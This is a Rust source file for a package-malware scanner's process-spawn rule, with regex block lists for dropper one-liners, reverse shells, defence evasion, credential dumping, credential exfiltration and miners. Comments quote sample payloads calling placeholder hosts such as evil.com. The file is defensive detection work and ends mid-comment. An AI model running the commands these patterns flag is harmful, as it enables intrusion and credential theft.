//! WH120 process-spawn: starting another program.

use std::sync::LazyLock;

use regex::Regex;
use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::{Ranged, TextRange};

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH120",
    name: "process-spawn",
    description: "Starts a process (subprocess, os.system, os.popen, os.exec*, pty.spawn, ...)",
    rationale: "Droppers hand over to a shell to download and run a second stage. Legitimate code \
                also calls git or compilers, so a constant command weighs little; shell download \
                one-liners, interpreters fed with code, and commands built at run time weigh more, \
                especially at install or import time.",
    category: Category::Sink,
};

/// Calls that start a process.
pub fn is_spawn(qualname: &str) -> bool {
    let q = qualname;
    matches!(
        q,
        "os.system"
            | "os.popen"
            | "os.popen2"
            | "os.popen3"
            | "os.startfile"
            | "os.posix_spawn"
            | "os.posix_spawnp"
            | "pty.spawn"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "asyncio.create_subprocess_shell"
            | "asyncio.create_subprocess_exec"
            | "popen2.popen2"
            | "WScript.Shell.Run"
            | "WScript.Shell.Exec"
            | "Shell.Application.ShellExecute"
            | "ctypes.windll.shell32.ShellExecuteW"
            | "ctypes.windll.shell32.ShellExecuteA"
            | "win32api.ShellExecute"
            | "ctypes.windll.kernel32.WinExec"
            | "win32api.WinExec"
            | "win32process.CreateProcess"
            | "ctypes.windll.kernel32.CreateProcessW"
            | "ctypes.windll.kernel32.CreateProcessA"
            | "_winapi.CreateProcess"
            // The primitives under `subprocess` and `os.exec*`, called directly to keep those
            // names out of the source.
            | "_posixsubprocess.fork_exec"
            | "os.fexecve"
            | "multiprocessing.util.spawnv_passfds"
    ) || is_pip_main(q)
        || is_libc_command(q)
        || is_container_run(q)
        || (q.starts_with("subprocess.")
            && matches!(
                q.trim_start_matches("subprocess."),
                "Popen"
                    | "run"
                    | "call"
                    | "check_call"
                    | "check_output"
                    | "getoutput"
                    | "getstatusoutput"
            ))
        || (q.starts_with("os.exec") && q.len() <= 10)
        || (q.starts_with("os.spawn") && q.len() <= 11)
}

/// The C library's `system`/`popen` called through ctypes (`ctypes.CDLL(None).system(b'…')`,
/// `ctypes.cdll.msvcrt.system`): a shell command, with no `subprocess` or `os` in sight.
fn is_libc_command(qualname: &str) -> bool {
    qualname.starts_with("ctypes.")
        && matches!(
            qualname.rsplit('.').next(),
            Some("system" | "popen" | "_popen" | "_wsystem")
        )
}

/// `docker.from_env().containers.run(image, command, …)`: the command runs in a container,
/// which with the host's root mounted or `privileged=True` is the host.
fn is_container_run(qualname: &str) -> bool {
    qualname.starts_with("docker.") && qualname.ends_with("containers.run")
}

/// pip's command-line entry point called in-process (`pip.main(['install', …])`): the same
/// `pip …` command as a subprocess would run, without a process.
fn is_pip_main(qualname: &str) -> bool {
    matches!(
        qualname,
        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
    )
}

/// Where the command line of an exec- or spawn-family call is.
enum Argv {
    /// A list argument at this position (`os.execv(path, argv)`).
    List(usize),
    /// The arguments from this position on (`os.execl(path, arg0, arg1, ...)`).
    Spread(usize),
    /// The program at this position and its parameters after it, and nothing further
    /// (`ShellExecuteW(hwnd, verb, file, params, directory, show)`).
    ProgramAndParameters(usize),
}

fn argv_position(qualname: &str) -> Option<Argv> {
    match qualname {
        "os.execv"
        | "os.execve"
        | "os.execvp"
        | "os.execvpe"
        | "os.posix_spawn"
        | "os.posix_spawnp"
        | "os.fexecve"
        | "multiprocessing.util.spawnv_passfds" => Some(Argv::List(1)),
        "_posixsubprocess.fork_exec" => Some(Argv::List(0)),
        "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => Some(Argv::List(2)),
        "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => Some(Argv::Spread(1)),
        "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => Some(Argv::Spread(2)),
        "ctypes.windll.shell32.ShellExecuteW"
        | "ctypes.windll.shell32.ShellExecuteA"
        | "win32api.ShellExecute" => Some(Argv::ProgramAndParameters(2)),
        "Shell.Application.ShellExecute" => Some(Argv::ProgramAndParameters(0)),
        // `CreateProcess(application, command_line, …)`: the application is usually `None`.
        "win32process.CreateProcess"
        | "ctypes.windll.kernel32.CreateProcessW"
        | "ctypes.windll.kernel32.CreateProcessA"
        | "_winapi.CreateProcess" => Some(Argv::ProgramAndParameters(0)),
        _ if is_container_run(qualname) => Some(Argv::List(1)),
        _ => None,
    }
}

/// Shell fragments that fetch or decode a second stage: the core vocabulary of droppers.
static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \b(invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile|certutil|bitsadmin
      |mshta|start-bitstransfer|invoke-restmethod)\b
    | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
    | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
    | stratum\+(tcp|ssl):// | \bxmrig\b | --donate-level | \b(supportxmr|minexmr|moneroocean|hashvault|nanopool|nicehash)\b
    | \bshutdown(\.exe)?\s+[/-][srf]\b | \brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*) | \brm\s+-[a-z]*r[a-z]*\s+(~|\$home|\$\{home\})/?\*?(\s|$) | \bformat\s+[a-z]:
    | \breg(\.exe)?\s+add\b.*\\(run|runonce|winlogon|image\s+file\s+execution\s+options)\b | \bsc(\.exe)?\s+create\b.*\bbinpath\s*=
    | \bregsvr32(\.exe)?\b.*\s/i:\s*[\x22']?(https?|ftp):// | \bmsiexec(\.exe)?\b.*\s[\x22']?(https?|ftp)://
    | \brundll32(\.exe)?\b.*(javascript:|(https?|ftp)://)
    "
);

/// Shell fragments that hide, persist or hand over to another interpreter: suspicious, but also
/// seen in legitimate tools (clipboard helpers call PowerShell, build scripts chmod).
static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \b(powershell|pwsh|rundll32|regsvr32|ncat|netcat|schtasks|crontab|nohup|osascript|wscript|cscript|disown|setsid)\b
    | ^\s*(dig|nslookup|host)\s+\S
    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bpythonw(\.exe)?\s | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
    | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | ^\s*(ba|z)?sh\s+/tmp/ | /tmp/\S+\s*&\s*$
    "
);

/// Commands that switch off or blind the machine's defences: Defender exclusions and
/// real-time protection, the firewall, shadow copies and event logs. Administrators do this by
/// hand or by policy; a Python package has no reason to.
static DEFENSE_EVASION: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \badd-mppreference\b.*-exclusion(path|process|extension|ipaddress)
    | \bset-mppreference\b.*-disable\w*\s+(\$?true|1)\b
    | \bnetsh(\.exe)?\s+(advfirewall|firewall)\s+set\b.*\bstate\s+off\b
    | \bvssadmin(\.exe)?\s+delete\s+shadows\b | \bwbadmin(\.exe)?\s+delete\s+catalog\b
    | \bbcdedit(\.exe)?\b.*\brecoveryenabled\s+no\b | \bwevtutil(\.exe)?\s+cl\b
    | \bdisableantispyware\b | \bdisablerealtimemonitoring\b
    | \b(sc|net)(\.exe)?\s+stop\s+windefend\b | \btaskkill\b.*\bmsmpeng\b
    "
);

/// Commands that hand the machine to someone else or dump what protects it: new
/// administrator accounts, the Windows account database and LSASS memory saved to files,
/// accounts given root's id. Nothing a library or its installer does for its user.
static MACHINE_TAKEOVER: LazyLock<Regex> = crate::static_regex!(
    r#"(?ix)
    \bnet1?(\.exe)?\s+user\s+\S+\s+\S+.*\s/add\b
    | \bnet1?(\.exe)?\s+localgroup\s+["']?administrators["']?\s+\S+.*\s/add\b
    | \breg(\.exe)?\s+save\s+["']?hklm\\+(sam|system|security)\b
    | \bcomsvcs(\.dll)?["']?\s*,?\s*minidump\b | \bprocdump\w*(\.exe)?\b.*\blsass\b
    | \bsekurlsa:: | \bmimikatz\b | \bntdsutil\b.*\bifm\b
    | \buseradd\b.*\s-o\b.*\s-u\s*0\b | \busermod\b.*\s-a?G\s*(sudo|wheel|root|admin)\b
    "#
);

/// True when a command line adds administrators or dumps the machine's account secrets.
pub fn takes_over_machine(command: &str) -> bool {
    MACHINE_TAKEOVER.is_match(command_head(command))
}

/// Hosts pip legitimately installs from by URL: the index's own file host and source forges.
const TRUSTED_PIP_HOSTS: &[&str] = &[
    "files.pythonhosted.org",
    "pypi.org",
    "test.pypi.org",
    "github.com",
    "codeload.github.com",
    "gitlab.com",
    "bitbucket.org",
];

/// pip options whose value is a package index or a page of links to archives.
const PIP_INDEX_OPTIONS: &[&str] = &[
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
];

/// The host of the archive URL a `pip install` command installs, when it is neither the index's
/// file host nor a source forge (`pip install https://files.pypihosted.org/…/x.whl`). Index
/// options (`-i`, `--index-url`, `--extra-index-url`, `-f`) are not what is installed.
pub fn pip_install_off_index(command: &str) -> Option<String> {
    let args = pip_install_args(command)?;
    untrusted_archive_host(args.split_whitespace(), true)
}

/// The host of the package index a `pip install` command installs from when that index is no
/// real one: a bare IP address or a plain-http server (`--index-url http://203.0.113.5/simple`).
/// Private indexes are served over https under their owners' names; an address with neither
/// serves whatever its owner puts there under the names the command asks for. The machine's
/// own loopback (a test's local index) is not this.
pub fn pip_install_untrusted_index(command: &str) -> Option<String> {
    let args = pip_install_args(command)?;
    let mut previous = "";
    for word in args.split_whitespace() {
        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
        let index_option = |option: &str| PIP_INDEX_OPTIONS.contains(&option);
        let value = if index_option(previous) {
            Some(word)
        } else {
            word.split_once('=')
                .filter(|(option, _)| option.starts_with("--") && index_option(option))
                .map(|(_, value)| value)
        };
        previous = word;
        let Some(url) = value else {
            continue;
        };
        let (plain_http, rest) = if let Some(rest) = url.strip_prefix("http://") {
            (true, rest)
        } else if let Some(rest) = url.strip_prefix("https://") {
            (false, rest)
        } else {
            continue;
        };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        let host_port = authority.rsplit('@').next().unwrap_or(authority);
        let host = host_port
            .rsplit_once(':')
            .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
            .map_or(host_port, |(host, _)| host)
            .to_ascii_lowercase();
        if host.is_empty() || host.contains(['{', '…', '[', '$', '%']) {
            continue;
        }
        let address = host.parse::<std::net::IpAddr>().ok();
        if host == "localhost" || address.is_some_and(|a| a.is_loopback()) {
            continue;
        }
        if address.is_some() || plain_http {
            return Some(host);
        }
    }
    None
}

/// `pip config set global.extra-index-url URL` (also `index-url`, `find-links`,
/// `trusted-host`, in any scope; `python -m pip config --user set …`): pip's configuration
/// repointed by command.
fn pip_config_sets_index(command: &str) -> bool {
    static CONFIG: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)\bpip[0-9.]*(\.exe)?["']?[\s,'"]+config\b[^;&|\n]{0,40}?\bset["']?[\s,'"]+["']?(global|user|site|install|download)?\.?(extra-index-url|index-url|find-links|trusted-host)\b"#
    );
    CONFIG.is_match(command)
}

/// The words after `pip install`, up to the end of that shell command: a separator or a line
/// break (a script handed to `python -c` that prints `pip install {name} failed` goes on to
/// other statements, not more packages).
fn pip_install_args(command: &str) -> Option<&str> {
    static PIP_URL: LazyLock<Regex> =
        crate::static_regex!(r#"(?i)\bpip[0-9.]*(\.exe)?["']?\s+install\b(?P<args>[^;&|\n\r]*)"#);
    PIP_URL
        .captures(command)
        .and_then(|c| c.name("args"))
        .map(|m| m.as_str())
}

/// The host of the first URL among `words` that is neither the index's file host nor a source
/// forge; with `options`, words that are pip options or their values are skipped.
pub(crate) fn untrusted_archive_host<'w>(
    words: impl Iterator<Item = &'w str>,
    options: bool,
) -> Option<String> {
    let mut previous = "";
    for word in words {
        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
        let takes_value = PIP_INDEX_OPTIONS.contains(&previous) || previous == "--trusted-host";
        previous = word;
        if options && (takes_value || word.starts_with('-')) {
            continue;
        }
        let url = word.strip_prefix("git+").unwrap_or(word);
        let Some(rest) = url
            .strip_prefix("https://")
            .or_else(|| url.strip_prefix("http://"))
        else {
            continue;
        };
        let host = rest
            .split(['/', ':', '@'])
            .next()
            .unwrap_or(rest)
            .to_ascii_lowercase();
        if host.is_empty() || host.contains('{') || host.contains('…') {
            continue;
        }
        if !TRUSTED_PIP_HOSTS
            .iter()
            .any(|trusted| host == *trusted || host.ends_with(&format!(".{trusted}")))
        {
            return Some(host);
        }
    }
    None
}

/// The repository a `pip install` command installs straight from version control
/// (`pip install git+https://github.com/someone/x.git`) or from a forge's archive of it
/// (`https://github.com/someone/x/archive/main.zip`): code no index has seen, which its owner
/// can change at any time. Named requirements and index options are not this.
pub fn pip_install_from_vcs(command: &str) -> Option<String> {
    static PIP_VCS: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)\bpip[0-9.]*(\.exe)?["']?\s+install\b[^;&|]*?\s["']?(?P<url>(git|hg|svn|bzr)\+[a-z]+://[^\s"']+|https?://(www\.)?(github\.com|gitlab\.com|bitbucket\.org|codeload\.github\.com)/[^\s"']+/(archive|zipball|tarball|zip|tar\.gz)/[^\s"']+)"#
    );
    let url = PIP_VCS.captures(command)?.name("url")?.as_str();
    (!url.contains('{') && !url.contains('…')).then(|| url.to_owned())
}

/// A one-line shell payload: a download piped into a shell, a reverse shell, or the
/// environment piped to a network tool.
static SHELL_PAYLOAD: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \b(curl|wget)\b[^|\n]{0,300}(://|\b[a-z0-9-]+\.[a-z]{2,}\b)[^\n]{0,300}\|\s*(sudo\s+)?(ba|z|da)?sh\b
    | /dev/tcp/[0-9a-z]
    | \bbash\s+-i\s*>&
    | \bnc(\.exe)?\s+-[a-z]*e\s
    | (^|[\s;&(])(env|printenv)\s*\|\s*(curl|wget|nc)\b
    "
);

/// True when a URL of `command` is on a host named after the project the file belongs to (the
/// first folder of `path`, less its version: `vastai-1.9.1/…` and `vast.ai`).
fn names_own_host(path: &str, command: &str) -> bool {
    let squash = |text: &str| -> String {
        text.chars()
            .filter(char::is_ascii_alphanumeric)
            .map(|c| c.to_ascii_lowercase())
            .collect()
    };
    let top = path.split('/').next().unwrap_or("");
    let project = top
        .rsplit_once('-')
        .filter(|(_, version)| version.starts_with(|c: char| c.is_ascii_digit()))
        .map_or(top, |(name, _)| name);
    let project = squash(project);
    if project.len() < 4 {
        return false;
    }
    url_hosts(command).any(|host| squash(host).contains(&project))
}

/// Where toolchains publish the installers their own documentation pipes into a shell
/// (`curl -LsSf https://astral.sh/uv/install.sh | sh`, rustup, Docker, Poetry, nvm): a
/// sandbox or CI helper that sets up `uv` this way fetches the vendor's script, not a
/// payload of its own. Hosts, or host and path prefix.
const VENDOR_INSTALLERS: &[&str] = &[
    "astral.sh/",
    "sh.rustup.rs",
    "get.docker.com",
    "install.python-poetry.org",
    "bun.sh/install",
    "deno.land/install.sh",
    "get.pnpm.io/install.sh",
    "pyenv.run",
    "micro.mamba.pm/install.sh",
    "pixi.sh/install.sh",
    "ollama.com/install.sh",
    "starship.rs/install.sh",
    "tailscale.com/install.sh",
    "get.k3s.io",
    "rclone.org/install.sh",
    "aka.ms/installazurecli",
    "nixos.org/nix/install",
    "install.determinate.systems/nix",
    "sdk.cloud.google.com",
    "deb.nodesource.com/setup_",
    "rpm.nodesource.com/setup_",
    "raw.githubusercontent.com/nvm-sh/nvm/",
    "raw.githubusercontent.com/homebrew/install/",
    "raw.githubusercontent.com/helm/helm/",
];

/// True when a command line fetches over https and every URL it names is a vendor's
/// installer ([`VENDOR_INSTALLERS`]).
fn pipes_only_vendor_installers(command: &str) -> bool {
    let mut urls = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';' | '{' | '}'))
        .filter(|word| word.contains("://"))
        .peekable();
    urls.peek().is_some()
        && urls.take(16).all(|url| {
            url.strip_prefix("https://").is_some_and(|rest| {
                let rest = rest.to_ascii_lowercase();
                VENDOR_INSTALLERS
                    .iter()
                    .any(|prefix| rest.starts_with(prefix))
            })
        })
}

/// The hosts of the http(s) URLs among the words of a command line (at most 16).
fn url_hosts(command: &str) -> impl Iterator<Item = &str> {
    command_head(command)
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';'))
        .filter_map(|word| {
            word.strip_prefix("http://")
                .or_else(|| word.strip_prefix("https://"))
        })
        .take(16)
        .map(|rest| {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
            authority
                .rsplit_once(':')
                .map_or(authority, |(host, _)| host)
        })
}

/// A literal that is a shell payload (see [`SHELL_PAYLOAD`]) or ships a credential store,
/// wherever the code hands it: to `os.system`, but also to runners a detector does not list
/// (`tkinter.Tcl().eval`, `BROWSER` for `webbrowser`, an object's `__reduce__` run by
/// `copy`). Popular packages do not carry such lines outside their tests and docs (one
/// `curl … | sh` in 876 sampled sdists, in a noxfile session); documents of several lines
/// (Dockerfile and CI templates) are not one command.
pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRange) {
    if value.len() > 2_000 || value.lines().nth(2).is_some() {
        return;
    }
    let shipped = ships_credential_store(value).map(|(label, _)| label);
    if shipped.is_none() && !SHELL_PAYLOAD.is_match(value) {
        return;
    }
    let context = checker.context();
    let severity = match context {
        // `INSTALL_HINT = 'curl -fsSL https://vast.ai/install.sh | bash'`: shown, not run; and
        // a project's own installer is how it tells users to update.
        _ if checker.in_documentation_value()
            || names_own_host(checker.path, value)
            || pipes_only_vendor_installers(value)
            || names_only_placeholder_hosts(value) =>
        {
            0.05
        }
        ExecContext::Install | ExecContext::Import => 0.75,
        ExecContext::Runtime if fetches_from_bare_address(value) => 0.5,
        ExecContext::Runtime => 0.3,
        ExecContext::TestOrDocs => 0.05,
    };
    let what = match shipped {
        Some(label) => format!("ships the {label} to another machine"),
        None => {
            "downloads code into a shell, opens a reverse shell or sends the environment".to_owned()
        }
    };
    checker.report(
        &RULE,
        range,
        format!(
            "the code carries the command line `{}`, which {what}, {}",
            crate::text::shorten(value, 160),
            context.phrase()
        ),
        severity,
        vec!["spawn", "command-literal"],
    );
}

/// `nc -e /bin/sh attacker.com 4444`, `curl http://evil.com/malware.sh | bash`: every host the
/// command names is one that examples and red-team datasets use for "the attacker". A payload
/// names a host its author controls.
fn names_only_placeholder_hosts(command: &str) -> bool {
    const PLACEHOLDERS: &[&str] = &[
        "evil.com",
        "attacker.com",
        "malicious.com",
        "hacker.com",
        "evil.example",
        "attacker.example",
    ];
    let is_placeholder = |host: &str| {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        PLACEHOLDERS
            .iter()
            .any(|name| host == *name || host.ends_with(&format!(".{name}")))
    };
    let words: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';' | '|' | '&'))
        .filter(|w| !w.is_empty())
        .take(64)
        .collect();
    let hosts: Vec<&str> = words
        .iter()
        .filter_map(|word| {
            let rest = word
                .strip_prefix("http://")
                .or_else(|| word.strip_prefix("https://"))
                .unwrap_or(word);
            let host = rest.split(['/', ':', '?', '#', '@']).next().unwrap_or(rest);
            let dotted = host.contains('.')
                && host.rsplit('.').next().is_some_and(|tld| {
                    tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())
                });
            (dotted && (word.contains("://") || is_placeholder(host))).then_some(host)
        })
        .collect();
    !hosts.is_empty() && hosts.iter().all(|host| is_placeholder(host))
}

/// Drops each shell payload literal finding ([`check_command_literal`]) that a process start
/// on its line already reports at least as strongly: `os.system('curl … | sh')` is one
/// finding, the call's, not two.
pub(crate) fn drop_restated_command_literals(findings: &mut Vec<crate::Finding>) {
    let restated: Vec<bool> = findings
        .iter()
        .map(|literal| {
            literal.has_tag("command-literal")
                && findings.iter().any(|call| {
                    call.rule == literal.rule
                        && call.line == literal.line
                        && !call.has_tag("command-literal")
                        && call.severity >= literal.severity
                })
        })
        .collect();
    let mut restated = restated.into_iter();
    findings.retain(|_| !restated.next().unwrap_or(false));
}

/// The credential store a command line ships to another machine: a store's path among the
/// words of a command that transfers files (`scp ~/.aws/credentials u@host:`, `tar czf - ~/.ssh
/// | nc host 4444`, `curl -F f=@~/.ssh/id_rsa URL`). Returns the store's label and its path.
pub fn ships_credential_store(command: &str) -> Option<(&'static str, String)> {
    static TRANSFER: LazyLock<Regex> = crate::static_regex!(
        r"(?ix)
        \b(scp|rsync|sftp|ncat|netcat|socat)(\.exe)?\b | (^|[\s|;&])nc(\.exe)?\s
        | \bcurl(\.exe)?\b.*(\s-F\b|\s--form\b|\s-d\s*[\x22']?@|\s--data(-binary|-raw)?[\s=][\x22']?@|\s--upload-file\b|\s-T\s)
        | \bwget\b.*--post-file
        "
    );
    let command = command_head(command);
    if !TRANSFER.is_match(command) {
        return None;
    }
    command.split_whitespace().take(256).find_map(|word| {
        let word = word.trim_matches(|c| matches!(c, '"' | '\'' | ',' | ')' | '('));
        // `f=@/home/u/.ssh/id_rsa`, `@~/.aws/credentials`: the file part of a form field.
        let path = word.rsplit(['@', '=']).next().unwrap_or(word);
        let path = path.trim_matches(|c| matches!(c, '"' | '\''));
        let path = path
            .strip_prefix("$HOME")
            .map_or_else(|| path.to_owned(), |rest| format!("~{rest}"));
        super::sources::secret_path_label(&path).map(|label| (label, path))
    })
}

/// Standard-library modules that scripts ask pip for by mistake.
const STANDARD_MODULES: &[&str] = &[
    "threading",
    "subprocess",
    "socket",
    "sqlite3",
    "asyncio",
    "hashlib",
    "base64",
    "logging",
    "pathlib",
    "shutil",
    "tkinter",
    "typing",
    "datetime",
    "random",
    "json",
    "time",
    "uuid",
    "urllib",
    "getpass",
    "platform",
    "collections",
    "multiprocessing",
    "ctypes",
    "zipfile",
];

/// The first project a `pip install` command names that imitates a popular project's name
/// (as WH303 judges a required dependency: a typo per eight characters, a doubled letter,
/// other digits, reordered words), with the project it imitates: `pip install colorsama`.
pub fn pip_install_lookalike(command: &str) -> Option<(String, String)> {
    let args = pip_install_args(command)?;
    let popular = crate::names::popular();
    let mut previous = "";
    for word in args.split_whitespace().take(64) {
        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
        let takes_value = PIP_INDEX_OPTIONS.contains(&previous)
            || matches!(
                previous,
                "--trusted-host"
                    | "-r"
                    | "--requirement"
                    | "-c"
                    | "--constraint"
                    | "-t"
                    | "--target"
                    | "--prefix"
                    | "--root"
            );
        previous = word;
        if takes_value || word.starts_with('-') || word.contains(['/', '\\', ':', '…', '{', '$'])
        {
            continue;
        }
        // `name==1.0`, `name[extra]>=2`: the project name before any specifier.
        let name = word
            .split(['=', '<', '>', '!', '~', '[', ';', '@'])
            .next()
            .unwrap_or(word);
        // `pip install threading`: a standard-library module asked of pip by mistake (it
        // fails, or fetches an old stub) resembles some project too, but nobody chose it.
        if name.len() < 3 || name.contains('.') || STANDARD_MODULES.contains(&name) {
            continue;
        }
        let normalized = crate::names::normalize(name);
        if popular.rank(&normalized).is_some() {
            continue;
        }
        if let Some(imitation) = popular
            .imitations(&normalized)
            .into_iter()
            .filter(|i| super::dependency_imitation::counts(i.how, normalized.chars().count()))
            .min_by_key(|i| (i.how, i.rank))
        {
            return Some((name.to_owned(), imitation.target));
        }
    }
    None
}

/// Commands that open the machine up the way an administrator might by hand, but no package
/// should while loading: firewall rules flushed or switched off, SELinux permissive, root
/// logins over SSH allowed, UAC disabled, a set-user-ID copy of a program.
static LOCKS_OPENED: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \biptables(\.exe)?\s+(-F|--flush)\b | \bufw\s+disable\b
    | \bsystemctl\s+(stop|disable)\s+(--now\s+)?(firewalld|ufw|apparmor|auditd)\b
    | \bsetenforce\s+0\b | \bpermitrootlogin\s+yes\b
    | \breg(\.exe)?\s+add\b.*\b(enablelua|consentpromptbehavioradmin)\b
    | \bchmod\s+(u\+s|[0-7]?[4-7][0-7]{3})\s
    | \bspctl\s+--(master|global)-disable\b | \bsecurity\s+add-trusted-cert\b
    | \bcertutil(\.exe)?\b.*\s-addstore\b.*\broot\b | \bimport-certificate\b.*\\root\b
    | \bnetsh(\.exe)?\s+interface\s+ip(v4|v6)?\s+(set|add)\s+dns(servers?)?\b.*\bstatic\b
    | \bnetworksetup\s+-set(dnsservers|webproxy|securewebproxy|autoproxyurl|socksfirewallproxy)\b
    | \bnetsh(\.exe)?\s+winhttp\s+set\s+proxy\b
    "
);

/// A command that kills processes by name or id.
static PROCESS_KILL: LazyLock<Regex> = crate::static_regex!(
    r"(?ix) ^\s*(\S*[\\/])?(taskkill(\.exe)?\s | pkill\s | killall\s | stop-process\s | wmic(\.exe)?\s+process\b.*\bdelete\b)"
);

/// Process names of antivirus and endpoint-protection products.
static SECURITY_PROCESS: LazyLock<Regex> = crate::static_regex!(
    r"(?i)\b(msmpeng|msseces|mssense|nissrv|avp|avpui|ekrn|bdagent|vsserv|avgui|avgsvc|avastsvc|avastui|mcshield|mfemms|savservice|sophosui|csfalconservice|sentinelagent|cylancesvc|cbdefense|xagt|mbam(service)?|wrsa|zatray|ccsvchst|nortonsecurity|clamd|falcon-sensor|osqueryd)(\.exe)?\b"
);

fn kills_processes(command: &str) -> bool {
    PROCESS_KILL.is_match(command_head(command))
}

/// True when `text` names an antivirus or endpoint-protection process. A kill command built
/// from a list (`for p in ('MsMpEng.exe', 'avp.exe'): os.system('taskkill /f /im ' + p)`)
/// is judged by the names the module lists.
fn names_security_process(text: &str) -> bool {
    text.len() <= 4 << 20 && SECURITY_PROCESS.is_match(text)
}

/// True when a command line switches off or blinds the machine's defences.
pub fn disables_defenses(command: &str) -> bool {
    DEFENSE_EVASION.is_match(command_head(command))
}

/// True when a command line opens the machine's locks (see [`LOCKS_OPENED`]).
pub fn opens_locks(command: &str) -> bool {
    LOCKS_OPENED.is_match(command_head(command))
}

/// Longest command text the command patterns read. Their word boundaries are Unicode-aware,
/// which sends the regex engine to its slow NFA on non-ASCII text: a multi-megabyte string
/// written to a file cost seconds. Command lines are short; a longer text is a script or a
/// blob, whose first 64 KiB say what it starts with.
const COMMAND_HEAD_BYTES: usize = 64 << 10;

fn command_head(command: &str) -> &str {
    if command.len() <= COMMAND_HEAD_BYTES {
        return command;
    }
    let mut end = COMMAND_HEAD_BYTES;
    while !command.is_char_boundary(end) {
        end -= 1;
    }
    command.get(..end).unwrap_or(command)
}

/// A network tool fed with the output of reconnaissance commands: `curl -H "Hostname:
/// $(hostname)" -d "$(ls -la)" https://...` reports the machine to its author.
static RECON_SUBSTITUTION: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    (\$\(|`)\s*(hostname|whoami|id|pwd|uname|ls|env|printenv|ifconfig|ipconfig|cat\s+/etc/(passwd|hosts|shadow))\b
    "
);

static NETWORK_TOOL: LazyLock<Regex> = crate::static_regex!(
    r"(?i)\b(curl|wget|nc|ncat|nslookup|dig|ping|host|invoke-webrequest|invoke-restmethod|iwr)\b"
);

/// True when a command line sends the output of reconnaissance commands over the network.
pub fn is_recon_exfiltration(command: &str) -> bool {
    let command = command_head(command);
    RECON_SUBSTITUTION.is_match(command) && NETWORK_TOOL.is_match(command)
}

/// Words that say a command line starts a cryptocurrency miner: the miners themselves, pool
/// protocols and the pools of privacy coins.
static MINER_COMMAND: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \b(xmrig|xmr-stak|cpuminer|minerd|t-rex|lolminer|nbminer|phoenixminer|gminer|srbminer)\b
    | stratum\+(tcp|ssl|tls)://
    | \b(supportxmr|minexmr|moneroocean|hashvault|nanopool|nicehash|2miners|herominers|f2pool|c3pool)\b
    "
);

/// The currency of the wallet a miner's command line pays (`xmrig -o pool -u 48edf…`), when
/// the command starts a miner and names a wallet address written out in it.
fn miner_paying_wallet(command: &str) -> Option<&'static str> {
    if !MINER_COMMAND.is_match(command) {
        return None;
    }
    command
        .split(|c: char| c.is_whitespace() || matches!(c, '=' | '\'' | '"' | ',' | '.'))
        .take(256)
        .find_map(super::clipper::wallet_address)
}

/// curl and wget fetch something only when given a target: `curl --version` probes for the tool.
static FETCH_TOOL: LazyLock<Regex> = crate::static_regex!(r"(?i)\b(curl|wget)\b");
static FETCH_TARGET: LazyLock<Regex> = crate::static_regex!(r"(?i)://|\s-[a-z]*[oO]\b|--output|\|");

/// True when a command line fetches or decodes a second stage.
pub fn is_dangerous_command(command: &str) -> bool {
    let command = command_head(command);
    // `curl --unix-socket /run/docker.sock http://docker/…` asks a local daemon, downloads
    // nothing.
    DOWNLOADER_COMMAND.is_match(command)
        || FETCH_TOOL.is_match(command)
            && FETCH_TARGET.is_match(command)
            && !command.contains("--unix-socket")
}

/// `curl -sL URL | tar xzf - -C dir`, `wget -q URL -O model.bin && unzip model.bin`: a download
/// whose every step only stores or unpacks files. Run when called, that is how tools fetch
/// templates and weights; nothing of it executes what arrived. Payload URLs (`.exe`, `.ps1`),
/// decoders, shells and bare public addresses are not plain fetches.
pub(crate) fn is_plain_fetch(command: &str) -> bool {
    let command = command_head(command);
    if !(FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command))
        || DOWNLOADER_COMMAND.is_match(command)
        || fetches_and_marks_executable(command)
        || fetches_from_bare_address(command)
    {
        return false;
    }
    handles_files_only(command)
}

/// The file name of the program a command line starts: `tar` for `/usr/bin/tar xzf -`.
fn program_name(command: &str) -> &str {
    let program = command.split_whitespace().next().unwrap_or("");
    program.rsplit('/').next().unwrap_or(program)
}

/// True when every step of a command line is a tool that fetches, stores, unpacks or lists
